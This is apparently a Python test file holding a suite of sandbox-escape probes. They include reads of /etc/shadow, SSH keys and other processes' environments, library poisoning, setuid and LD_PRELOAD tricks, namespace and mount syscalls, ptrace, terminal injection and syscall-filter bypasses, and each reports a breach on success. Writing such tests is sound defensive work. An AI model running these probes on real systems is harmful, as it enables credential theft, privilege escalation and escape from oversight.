"""Attacks on the sandbox, written from its promise alone: ways out of it and things that must not be reached.

Source: the text of the promise ("no file outside read, no socket, no survivor, no forged verdict"), and the manual pages of the calls. Nobody looked at
the sandbox's code, nor at the older hostile programs, before these were written; what an insider thought of is in `hostile`, this is the other view.
Assumption: x86-64 Linux for the numbered calls. On another machine they ask for other calls and prove less, but never accuse wrongly.
Fails when: a program cries BREACH for something that its own view shows and that is nobody else's (its own fresh `/proc`, say). Each cries only at a thing
it got hold of: the secret of the house, an open socket, a privileged call that answered.

`@SECRET@` (a file of ours), `@PORT@` (we listen there), `@UNIX@` (an abstract name we listen at) and `@PID@` (the test's process) are filled in by the test.
The part of a name before the slash is the kind.
"""

PRELUDE = """
import ctypes, os, sys, socket, struct, mmap, errno, time, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *args):
    packed = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    answer = libc.syscall(ctypes.c_long(number), *packed)
    return answer if answer >= 0 else -ctypes.get_errno()
def breach(*what): print("BREACH", *what, flush=True)
def forbid(what, number, *args):
    if (answer := call(number, *args)) >= 0: breach(what, answer)
def peek(*paths):
    for path in paths:
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK); print(os.read(fd, 4096)); os.close(fd)
        except OSError: pass
def attempt(what, f, *args):
    try: f(*args)
    except (OSError, ValueError, AttributeError): return
    breach(what)
"""

FILES = {
    "file/plain": "peek('@SECRET@', '/etc/shadow', '/etc/passwd', '/root/.bashrc', '/root/.ssh/id_rsa', '/etc/ssh/ssh_host_rsa_key')",
    "file/dotdot": "peek('../' * 30 + '@SECRET@'.lstrip('/'), '/proc/self/cwd/../../../../../..@SECRET@', '//./@SECRET@')",
    "file/proc_of_others": """
for pid in ('1', '@PID@', str(os.getppid()), 'self', 'thread-self'):
    for leaf in ('root@SECRET@', 'environ', 'cwd@SECRET@', 'maps', 'fd/0', 'task/' + pid + '/environ'): peek('/proc/%s/%s' % (pid, leaf))""",
    "file/parents_environment": """
for pid in range(1, 400): peek('/proc/%d/environ' % pid, '/proc/%d/cmdline' % pid)
print(dict(os.environ))""",
    "file/environment_by_libc": """
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ'); i = 0
while environ and environ[i]: print(environ[i]); i += 1""",
    "file/inherited_descriptors": """
for fd in range(3, 1024):
    try: print(fd, os.readlink('/proc/self/fd/%d' % fd))
    except OSError: pass
    for leaf in ('@SECRET@'.lstrip('/'), '../' * 12 + '@SECRET@'.lstrip('/')):
        try: print(os.read(os.open(leaf, os.O_RDONLY, dir_fd=fd), 100))
        except OSError: pass""",
    "file/reopen_descriptors": """
for fd in range(64):
    for way in ('/proc/self/fd/%d', '/dev/fd/%d'):
        for leaf in ('/..@SECRET@', '/../../../..@SECRET@', '@SECRET@'): peek(way % fd + leaf)""",
    "file/links": """
for make in (os.symlink, os.link):
    try: make('@SECRET@', 'way'); print(open('way').read())
    except OSError: pass
    try: os.unlink('way')
    except OSError: pass
try: os.symlink('/', 'root'); print(open('root@SECRET@').read())
except OSError: pass
try: os.symlink('/proc/self/root', 'again'); print(open('again@SECRET@').read())
except OSError: pass""",
    "file/linkat_by_descriptor": """
forbid('linkat', 265, -100, b'@SECRET@', -100, b'stolen', 0)
try: os.rename('@SECRET@', 'mine'); breach('renamed')
except OSError: pass""",
    "file/openat2_and_path_only": """
fd = call(257, -100, b'@SECRET@', 0o10000000, 0)
if fd >= 0: peek('/proc/self/fd/%d' % fd)
how = struct.pack('QQQ', 0, 0, 0); fd = call(437, -100, b'@SECRET@', how, 24)
if fd >= 0: print(os.read(fd, 100))""",
    "file/handles": """
handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128)); mount = ctypes.c_int()
got = call(303, -100, b'/', handle, ctypes.byref(mount), 0)
for root in ('/', '.', '/usr', os.path.dirname(os.__file__)):
    try: fd = os.open(root, os.O_RDONLY)
    except OSError: continue
    for inode in (2, 128, 256):
        forbid('open_by_handle_at', 304, fd, struct.pack('IiII', 8, 1, inode, 0), 0)
if got >= 0: forbid('open_by_handle_at own', 304, -100, handle, 0)""",
    "file/devices": """
peek('/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/loop0', '/proc/kcore', '/proc/kallsyms', '/proc/kmsg')
for device in ('/dev/mem', '/dev/kvm', '/dev/fuse', '/dev/vda', '/dev/kmsg', '/dev/net/tun', '/dev/loop-control', '/dev/userfaultfd', '/dev/vsock', '/dev/vhost-vsock', '/dev/ptmx',
               '/dev/uinput', '/dev/tty', '/dev/console'):
    try: os.open(device, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK); breach(device)
    except OSError: pass""",
    "file/make_a_device": """
for major, minor in ((1, 1), (8, 0), (254, 0), (259, 0), (10, 232)):
    try: os.mknod('node', 0o60600, os.makedev(major, minor)); os.open('node', os.O_RDONLY); breach('block device')
    except OSError: pass
    try: os.mknod('node2%d' % minor, 0o20600, os.makedev(major, minor)); os.open('node2%d' % minor, os.O_RDONLY); breach('device')
    except OSError: pass""",
    "file/write_outside": """
for place in ('@SECRET@', '@SECRET@.new', '/etc/blind', '/usr/lib/blind', '/usr/bin/python3', '/bin/sh', '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger',
              '/sys/kernel/uevent_helper', sys.executable, os.__file__, '/proc/self/oom_score_adj', '/proc/@PID@/oom_score_adj'):
    try: fd = os.open(place, os.O_WRONLY | os.O_CREAT)
    except OSError: continue
    if place == '/proc/self/oom_score_adj': continue
    breach('may write', place)""",
    "file/library_poison": """
import sysconfig
for place in {os.path.dirname(os.__file__), sysconfig.get_paths()['purelib'], sysconfig.get_paths()['stdlib'], os.path.dirname(sys.executable)}:
    for name in ('sitecustomize.py', 'blind.pth', '__pycache__/os.cpython-311.pyc'):
        try: open(os.path.join(place, name), 'ab').close(); breach('poisoned', place, name)
        except OSError: pass
    attempt('chmod', os.chmod, place, 0o777)
    attempt('utime', os.utime, os.__file__, (1, 1))""",
    "file/attributes_outside": """
attempt('chmod', os.chmod, '@SECRET@', 0o777)
attempt('chown', os.chown, '@SECRET@', 1, 1)
attempt('utime', os.utime, '@SECRET@', (1, 1))
attempt('truncate', os.truncate, '@SECRET@', 0)
attempt('setxattr', os.setxattr, '@SECRET@', 'user.blind', b'1')
attempt('unlink', os.unlink, '@SECRET@')
attempt('rmdir', os.rename, os.path.dirname('@SECRET@'), '/tmp/elsewhere')""",
    "file/setuid_program": """
open('mine', 'w').write('x')
os.chmod('mine', 0o4755)
for shell in ('/bin/su', '/usr/bin/sudo', '/bin/mount', '/usr/bin/passwd', '/usr/bin/newuidmap'):
    try: pid = os.posix_spawn(shell, [shell, '--version'], {})
    except OSError: continue
    os.waitpid(pid, 0)""",
    "file/shell_cat": """
import subprocess
for command in (['/bin/cat', '@SECRET@'], ['/bin/sh', '-c', 'cat @SECRET@ /etc/shadow /proc/1/environ'], [sys.executable, '-c', 'print(open("@SECRET@").read())']):
    try: print(subprocess.run(command, capture_output=True, timeout=3).stdout)
    except Exception as e: print(type(e))""",
    "file/memfd_exec": """
fd = call(319, b'x', 0)
if fd >= 0:
    os.write(fd, b'#!/bin/cat @SECRET@\\n')
    try: os.execve('/proc/self/fd/%d' % fd, ['x', '@SECRET@'], {})
    except OSError: pass
    call(322, fd, b'', 0, 0, 0x1000)""",
    "file/loader_preload": """
os.environ.update(LD_PRELOAD='@SECRET@', LD_LIBRARY_PATH='/tmp', LD_AUDIT='@SECRET@', PYTHONPATH='@SECRET@')
try: ctypes.CDLL('@SECRET@')
except OSError as e: print(e)
try: os.execv('/lib64/ld-linux-x86-64.so.2', ['ld', '--preload', '@SECRET@', '/bin/cat', '@SECRET@'])
except OSError: pass""",
    "file/error_messages": """
import tokenize, linecache, runpy, mmap as m, zipfile
for read in (lambda: runpy.run_path('@SECRET@'), lambda: tokenize.open('@SECRET@').read(), lambda: linecache.getlines('@SECRET@'), lambda: zipfile.ZipFile('@SECRET@'),
             lambda: m.mmap(os.open('@SECRET@', 0), 0, prot=1).read(), lambda: os.sendfile(1, os.open('@SECRET@', 0), 0, 100), lambda: os.listdir(os.path.dirname('@SECRET@'))):
    try: print(read())
    except BaseException as e: print(repr(e)[:60])""",
}

KERNEL = {
    "ns/unshare_and_setns": """
for flag in (0x10000000, 0x20000, 0x40000000, 0x08000000, 0x02000000, 0x04000000, 0x20000000, 0x80):
    forbid('unshare %x' % flag, 272, flag)
for name in ('mnt', 'net', 'pid', 'user', 'ipc', 'uts'):
    for pid in ('1', '@PID@'):
        try: forbid('setns', 308, os.open('/proc/%s/ns/%s' % (pid, name), 0), 0)
        except OSError: pass""",
    "ns/clone3_user": """
args = struct.pack('8Q', 0x10000000 | 0x20000, 0, 0, 0, 17, 0, 0, 0)
if (pid := call(435, args, 64)) == 0: os._exit(0)
if pid > 0: breach('clone3 of a user namespace')
if (pid := call(56, 0x10000000 | 17, 0, 0, 0, 0)) == 0: os._exit(0)
if pid > 0: breach('clone of a user namespace')""",
    "ns/mount_old": """
forbid('mount proc', 165, b'proc', b'/tmp', b'proc', 0, 0)
forbid('mount tmpfs', 165, b'x', b'.', b'tmpfs', 0, 0)
forbid('mount bind', 165, b'/', b'/tmp', 0, 4096 | 16384, 0)
forbid('remount', 165, b'', b'/', 0, 32 | 4096, 0)
forbid('umount', 166, b'/tmp', 2)
forbid('umount proc', 166, b'/proc', 2)
forbid('pivot_root', 155, b'.', b'.')""",
    "ns/mount_new": """
forbid('fsopen', 430, b'tmpfs', 0)
forbid('open_tree', 428, -100, b'/', 1)
forbid('move_mount', 429, -100, b'/tmp', -100, b'/mnt', 0)
forbid('fspick', 433, -100, b'/', 0)
forbid('mount_setattr', 442, -100, b'/', 0, bytes(32), 32)
forbid('open_tree_attr', 467, -100, b'/', 1, bytes(32), 32)""",
    "ns/chroot_walk": """
try: os.mkdir('jail'); here = os.open('.', 0); os.chroot('jail'); os.fchdir(here)
except OSError: pass
else:
    for _ in range(50): os.chdir('..')
    os.chroot('.'); peek('@SECRET@'); breach('chroot')""",
    "ns/identity": """
for number in (105, 106, 117, 119): call(number, 0, 0, 0)
peek('/etc/shadow', '@SECRET@')
header = struct.pack('Ii', 0x20080522, 0); data = ctypes.create_string_buffer(24)
if call(125, header, data) >= 0 and any(struct.unpack('6I', data.raw)[0::3]): breach('holds capabilities', data.raw)
forbid('raise', 126, header, struct.pack('6I', 1 << 21, 1 << 21, 0, 0, 0, 0))""",
    "priv/clock_name_and_machine": """
forbid('sethostname', 170, b'blind', 5)
forbid('setdomainname', 171, b'blind', 5)
forbid('swapon', 167, b'/x', 0)
forbid('init_module', 175, b'', 0, b'')
forbid('kexec', 246, 0, 0, 0, 0)
forbid('iopl', 172, 3)
forbid('ioperm', 173, 0x80, 1, 1)
forbid('acct', 163, 0)
forbid('syslog', 103, 3, ctypes.create_string_buffer(100), 100)
forbid('quotactl', 179, 0, 0, 0, 0)
forbid('vhangup', 153)""",
    "priv/tracing": """
forbid('bpf', 321, 0, struct.pack('IIIII', 1, 4, 4, 1, 0) + bytes(100), 120)
forbid('perf_event_open', 298, struct.pack('IIQ', 1, 112, 0) + bytes(96), 0, -1, -1, 0)
forbid('userfaultfd', 323, 1)
forbid('fanotify_init', 300, 0, 0)
forbid('lookup_dcookie', 212, 0, ctypes.create_string_buffer(10), 10)
forbid('kcmp', 312, os.getpid(), os.getppid(), 0, 0, 0)""",
    "priv/io_uring": """
forbid('io_uring_setup', 425, 8, ctypes.create_string_buffer(120))
forbid('io_uring_enter', 426, 1, 0, 0, 0, 0, 0)
forbid('io_uring_register', 427, -1, 0, 0, 0)""",
    "priv/keys": """
forbid('add_key', 248, b'user', b'blind', b'x', 1, -4)
forbid('keyctl', 250, 0, -3, 1)
forbid('request_key', 249, b'user', b'blind', b'', -3)""",
    "priv/personality_and_ldt": """
forbid('personality no randomise', 135, 0x0040000)
forbid('personality read implies exec', 135, 0x0400000)
forbid('modify_ldt', 154, 1, struct.pack('IIII', 0, 0, 0xfffff, 0x51), 16)
forbid('uselib', 134, b'@SECRET@')""",
    "spy/other_processes": """
parent = os.getppid(); buffer = ctypes.create_string_buffer(64)
for pid in (1, parent, @PID@):
    if pid <= 0 or pid == os.getpid(): continue
    forbid('ptrace attach', 101, 16, pid, 0, 0)
    forbid('ptrace seize', 101, 0x4206, pid, 0, 0)
    where = struct.pack('QQ', ctypes.addressof(buffer), 8)
    forbid('process_vm_readv', 310, pid, where, 1, where, 1, 0)
    forbid('process_vm_writev', 311, pid, where, 1, where, 1, 0)
    peek('/proc/%d/mem' % pid)
    fd = call(434, pid, 0)
    if fd >= 0:
        for other in range(8): forbid('pidfd_getfd', 438, fd, other, 0)
    forbid('move_pages', 279, pid, 0, 0, 0, 0, 0) if pid == @PID@ else None""",
    "spy/signals": """
for pid in (@PID@, os.getppid()):
    if pid > 1 and pid != os.getpid():
        try: os.kill(pid, 0 if pid == @PID@ else signal.SIGUSR1); breach('signalled', pid) if pid == @PID@ else None
        except OSError: pass
try: os.killpg(0, signal.SIGCONT)
except OSError: pass
try: os.kill(-1, signal.SIGKILL)
except OSError: pass""",
    "spy/signal_by_owner": """
import fcntl
r, w = os.pipe()
fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | 0o20000)
for target in (@PID@, -@PID@):
    try: fcntl.fcntl(r, fcntl.F_SETOWN, target); fcntl.fcntl(r, 10, signal.SIGKILL); os.write(w, b'x')
    except OSError: pass
call(234, @PID@, @PID@, 9); call(200, @PID@, 9); call(129, @PID@, 9, bytes(128))""",
    "spy/priority_of_others": """
for pid in (@PID@,):
    forbid('setpriority', 141, 0, pid, 19)
    forbid('sched_setscheduler', 144, pid, 3, struct.pack('i', 0))
    forbid('sched_setaffinity', 203, pid, 8, struct.pack('Q', 1))
    forbid('ioprio_set', 251, 1, pid, 3 << 13)
    forbid('prlimit', 302, pid, 7, struct.pack('QQ', 4, 4), 0)
forbid('real time', 144, 0, 1, struct.pack('i', 50))""",
    "spy/terminal": """
import fcntl
for fd in (0, 1, 2):
    try: fcntl.ioctl(fd, 0x5412, b'x'); breach('TIOCSTI')
    except OSError: pass
    try: fcntl.ioctl(fd, 0x541C, b'\\x03'); breach('TIOCLINUX')
    except OSError: pass
    try: fcntl.ioctl(fd, 0x540E, 1); breach('TIOCSCTTY')
    except OSError: pass""",
    "abi/int80_and_x32": """
page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
at = ctypes.addressof(ctypes.c_char.from_buffer(page)); name = b'@SECRET@'; page[256:257 + len(name)] = name + bytes(1)
def old(number, b, c, d):
    code = b'\\x53\\xb8' + struct.pack('<I', number) + b'\\xbb' + struct.pack('<I', b) + b'\\xb9' + struct.pack('<I', c) + b'\\xba' + struct.pack('<I', d) + b'\\xcd\\x80\\x5b\\xc3'
    page[0:len(code)] = code
    return ctypes.CFUNCTYPE(ctypes.c_int)(at)()
for family in (2, 10, 16, 38, 40):
    if old(359, family, 1, 0) >= 0: breach('32-bit socket', family)
if at < 2 ** 31 and (fd := old(5, at + 256, 0, 0)) >= 0: print(os.read(fd, 99))
if old(310, 0x10000000, 0, 0) >= 0: breach('32-bit unshare')""",
    "abi/x32": """
for family in (2, 10, 16): forbid('x32 socket', 0x40000000 | 41, family, 1, 0)
forbid('x32 unshare', 0x40000000 | 272, 0x10000000); forbid('x32 ptrace', 0x40000000 | 521, 0, 0, 0, 0)
fd = call(0x40000000 | 2, b'@SECRET@', 0, 0); print(os.read(fd, 99) if fd >= 0 else fd)""",
    "abi/high_half_numbers": """
for top in (1 << 32, 1 << 63, 0xffffffff << 32): forbid('high half', top | 41, 2, 1, 0)
for family in (2 | 1 << 32, 10 | 1 << 40): forbid('high half of a family', 41, family, 1, 0)
forbid('high half of a flag', 272, 0x10000000 | 1 << 40)""",
    "abi/undo_the_lock": """
libc.prctl(38, 0, 0, 0, 0); libc.prctl(22, 0); call(317, 0, 0, 0); libc.prctl(4, 1); libc.prctl(36, 1)
import resource
for name in ('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_FSIZE', 'RLIMIT_NPROC', 'RLIMIT_NOFILE'):
    which = getattr(resource, name); soft, hard = resource.getrlimit(which)
    if hard == resource.RLIM_INFINITY: continue
    try: resource.setrlimit(which, (hard + 1, hard + 1)); breach('raised', name)
    except (OSError, ValueError): pass
peek('@SECRET@'); forbid('socket', 41, 2, 1, 0)""",
    "abi/exec_then_again": """
if not os.environ.get('AGAIN'):
    try: os.execve(sys.executable, [sys.executable, '-I', '-c', 'import socket; s=socket.socket(); print("BREACH"); print(open("@SECRET@").read())'], {'AGAIN': '1'})
    except OSError as e: print(e)""",
}

SOCKETS = {
    "net/every_family": """
for family in range(2, 46):
    for kind in (1, 2, 3, 5, 10):
        for protocol in (0, 1, 6, 132, 255, 262):
            if family in (1,): continue
            fd = call(41, family, kind, protocol)
            if fd >= 0: breach('socket', family, kind, protocol); os.close(fd)""",
    "net/contact_us": """
for family, where in ((2, ('127.0.0.1', @PORT@)), (2, ('0.0.0.0', @PORT@)), (10, ('::1', @PORT@)), (10, ('::ffff:127.0.0.1', @PORT@))):
    try: s = socket.socket(family); s.settimeout(1); s.connect(where); s.send(b'hello'); breach('contact', where)
    except OSError: pass
try: s = socket.socket(2); call(44, s.fileno(), b'x', 1, 0x20000000, struct.pack('<H', 2) + struct.pack('>H', @PORT@) + bytes([127, 0, 0, 1]) + bytes(8), 16)
except OSError: pass""",
    "net/abstract_unix": """
for kind in (1, 2, 5):
    try: s = socket.socket(1, kind); s.settimeout(1); s.connect(b'\\0@UNIX@'); breach('abstract', kind)
    except OSError: pass
    try: s = socket.socket(1, 2); s.sendto(b'x', b'\\0@UNIX@'); breach('datagram')
    except OSError: pass""",
    "net/unix_by_path": """
import glob
for path in ('/run/dbus/system_bus_socket', '/run/systemd/journal/socket', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/tmp/.X11-unix/X0', '/dev/log', '@SECRET@.sock'):
    try: s = socket.socket(1); s.connect(path); breach(path)
    except OSError: pass""",
    "net/pair_reaches_out": """
a, b = socket.socketpair()
for s in (a, b):
    try: s.connect(b'\\0@UNIX@'); breach('pair connects')
    except OSError: pass
    try: s.bind(b'\\0bound'); s.listen(1); breach('pair listens')
    except OSError: pass
try:
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'x', b'\\0@UNIX@'); breach('pair sends elsewhere')
except OSError: pass
try:
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendmsg([b'x'], [], 0, b'\\0@UNIX@'); breach('pair sends elsewhere')
except OSError: pass
try: a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.close(); b.connect(b'\\0@UNIX@'); b.send(b'x'); breach('datagram pair connects')
except OSError: pass""",
    "net/on_inherited": """
for fd in range(0, 64):
    try: s = socket.socket(fileno=fd); breach('a socket was inherited', fd) if s.family != 1 else s.sendmsg([b'x'], [], 0, b'\\0@UNIX@'); s.detach()
    except OSError: pass""",
    "ipc/sysv": """
for number in (29, 64, 68):
    if (got := call(number, 0x0b11d, *((4096, 0o1666) if number == 29 else (1, 0o1666) if number == 64 else (0o1666,)))) >= 0: print('made', number)""",
    "ipc/mqueue_and_shm": """
print(call(240, b'blind_queue', 0o102, 0o666, 0))
for place in ('/dev/shm/blind_shm', '/dev/mqueue/blind_queue', '/run/blind', '/var/tmp/blind', '/tmp/blind_left'):
    try: open(place, 'w').write('x')
    except OSError: pass""",
    "ipc/splice_into_files": """
r, w = os.pipe()
for path in (sys.executable, os.__file__, '@SECRET@'):
    try: fd = os.open(path, 0)
    except OSError: continue
    before = os.pread(fd, 16, 0); off = ctypes.c_long(1)
    call(275, fd, ctypes.byref(off), w, 0, 1, 0)
    try: os.write(w, b'BLIND')
    except OSError: pass
    if os.pread(fd, 16, 0) != before: breach('page cache written')""",
}

ESCAPES = {name: PRELUDE + code for group in (FILES, KERNEL, SOCKETS) for name, code in group.items()}
